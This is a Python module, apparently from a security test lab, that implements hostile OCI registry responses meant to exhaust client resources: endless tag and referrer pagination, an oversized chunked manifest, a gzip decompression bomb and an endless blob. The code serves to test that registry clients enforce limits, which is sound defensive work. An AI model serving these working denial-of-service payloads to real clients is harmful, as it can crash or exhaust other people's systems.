"""Attacks by more than anybody can hold, or wait for."""

from __future__ import annotations

import gzip

from lab.hostile.attack import SOURCE, Asked, Attack
from lab.hostile.content import OCI_INDEX, OCI_MANIFEST, digest_of, index
from lab.hostile.serving import Exchange

MIB = 1 << 20


class EndlessTags(Attack):
    """Each page has one more tag, which nobody has seen before."""

    number = 12
    name = "tag pages without end"
    advisories = "oras-go#1215"
    asked = Asked.TAGS
    said = "come in pages without end"

    def answer(self, exchange: Exchange) -> bool:
        if not exchange.place.endswith("/tags/list"):
            return False
        page = int(exchange.parameters.get("last", "t0")[1:]) + 1
        link = {"Link": f'<{exchange.place}?last=t{page}>; rel="next"'}
        exchange.say(200, {"name": SOURCE, "tags": [f"t{page}"]}, link)
        return True


class LargeManifest(Attack):
    number = 13
    name = "manifest of 256 MB, chunked"
    advisories = "CVE-2017-11468, GHSA-h62f-wm92-2cmw"
    said = "is over the limit"

    def answer(self, exchange: Exchange) -> bool:
        if not self.is_manifest(exchange):
            return False
        exchange.chunked([b" " * MIB] * 256, {"Content-Type": OCI_MANIFEST})
        return True


class Bomb(Attack):
    number = 15
    name = "gzip bomb as Content-Encoding (0.5 MB → 512 MB)"
    advisories = "CVE-2026-44432"
    said = "Error: "

    def answer(self, exchange: Exchange) -> bool:
        if not self.is_manifest(exchange):
            return False
        bomb = gzip.compress(b" " * MIB) * 512  # members of one file, as gzip(1) has it
        exchange.send(200, bomb, {"Content-Type": OCI_MANIFEST, "Content-Encoding": "gzip"})
        return True


class EndlessBlob(Attack):
    number = 16
    name = "blob without end"
    said = "more than the .* bytes"

    def answer(self, exchange: Exchange) -> bool:
        if not self.is_layer(exchange):
            return False
        exchange.chunked(iter(lambda: b"x" * MIB, b""), {})
        return True


class ManyReferrers(Attack):
    number = 28
    name = "100,000 referrers"
    asked = Asked.REFERRERS
    may_succeed = True
    said = "more than 10000 referrers"

    def answer(self, exchange: Exchange) -> bool:
        if "/referrers/" not in exchange.place:
            return False
        page = int(exchange.parameters.get("page", "0"))
        listed = [
            {"mediaType": OCI_MANIFEST, "digest": digest_of(b"%d" % number), "size": 2, "artifactType": "a/b"}
            for number in range(page * 1000, page * 1000 + 1000)
        ]
        next_page = {"Link": f'<{exchange.place}?page={page + 1}>; rel="next"'} if page < 99 else {}
        exchange.send(200, index(listed).content, {"Content-Type": OCI_INDEX, **next_page})
        return True


ATTACKS = (EndlessTags, LargeManifest, Bomb, EndlessBlob, ManyReferrers)
